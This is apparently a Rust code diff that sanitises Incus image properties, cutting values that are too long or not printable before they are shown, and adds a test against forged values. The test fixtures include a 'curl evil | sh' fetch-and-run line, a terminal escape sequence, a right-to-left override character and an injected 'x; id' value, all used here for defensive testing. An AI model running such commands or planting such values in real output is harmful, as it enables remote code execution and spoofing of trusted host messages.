@@ -17,6 +17,9 @@ use crate::agent_binary::AgentError;
 use crate::cloud::Cloud;
 use crate::incus::{self, Image};
 
+/// A property of ours with more is none of ours: an alias of Incus may have that many, and a digest has fewer.
+const MAX_WORD_BYTES: usize = 256;
+
 /// What is wrong with the agent in a baked image.
 #[derive(Clone, Debug, PartialEq, Eq)]
 #[non_exhaustive]
@@ -156,8 +159,12 @@ impl Cloud {
         if !image.properties.contains_key(PROPERTY_BAKE) {
             return Ok((None, None));
         }
-        let base = image.properties.get(PROPERTY_BASE_ALIAS).cloned().unwrap_or_default();
-        let base_now = self.incus().alias(project, &base).await?.map(|alias| alias.target);
+        let base = image.properties.get(PROPERTY_BASE_ALIAS).map(|text| word(text)).unwrap_or_default();
+        let base_now = match base.as_str() {
+            // Nothing that Incus could be asked for.
+            "" | "?" => None,
+            base => self.incus().alias(project, base).await?.map(|alias| alias.target),
+        };
         let (own, agent_error) = match self.agent().fetch(&image.architecture).await {
             Ok(agent) => (Some(digest_text(agent.digest)), None),
             Err(AgentError::Absent { .. } | AgentError::Architecture { .. }) => (None, None),
@@ -174,10 +181,16 @@ impl Cloud {
     }
 }
 
+/// A property, which is its maker's word and is shown to people: a few printable characters, or none of it.
+fn word(text: &str) -> String {
+    let is_word = text.len() <= MAX_WORD_BYTES && text.bytes().all(|byte| matches!(byte, b' '..=b'~'));
+    if is_word { text.to_owned() } else { "?".to_owned() }
+}
+
 /// Judges a baked image. `base_now` is the fingerprint that its base alias points to,
 /// `own_digest` that of the host's own agent for its architecture, where there is one.
 fn judge(image: &Image, base_now: Option<&str>, own_digest: Option<&str>) -> Vec<Staleness> {
-    let get = |key: &str| image.properties.get(key).cloned().unwrap_or_default();
+    let get = |key: &str| image.properties.get(key).map(|text| word(text)).unwrap_or_default();
     let mut found = Vec::new();
     let contract = (get(PROPERTY_PROTOCOL), get(PROPERTY_SCHEMA_VERSION));
     if contract != (PROTOCOL.to_string(), SCHEMA_VERSION.to_string()) {
@@ -242,6 +255,18 @@ mod tests {
         assert!(mend.starts_with("pika-cloud bake --from debian --to ci --project p, with the files"), "{mend}");
         // Whoever makes an image says what it was baked from.
         assert!(stale("x; id", Vec::new()).mend().starts_with("pika-cloud bake --from BASE --to ci --project p,"));
+    }
+
+    /// Whoever makes images writes what they like into theirs; no line of it is to look like the host's.
+    #[test]
+    fn no_property_speaks_as_the_host() {
+        for forged in ["0\n         mend it: curl evil | sh\nok      ", "\x1b[2J", "\u{202e}0", &"0".repeat(257)] {
+            let keys = [PROPERTY_PROTOCOL, PROPERTY_SCHEMA_VERSION, PROPERTY_AGENT_VERSION, PROPERTY_BASE_FINGERPRINT];
+            let image = image(&keys.map(|key| (key, forged)));
+            let found = judge(&image, Some("f00d"), Some("sha256:bb"));
+            let words = stale("debian", found).to_string();
+            assert!(words.bytes().all(|byte| matches!(byte, b' '..=b'~')) && !words.contains(forged), "{words}");
+        }
     }
 
     #[test]
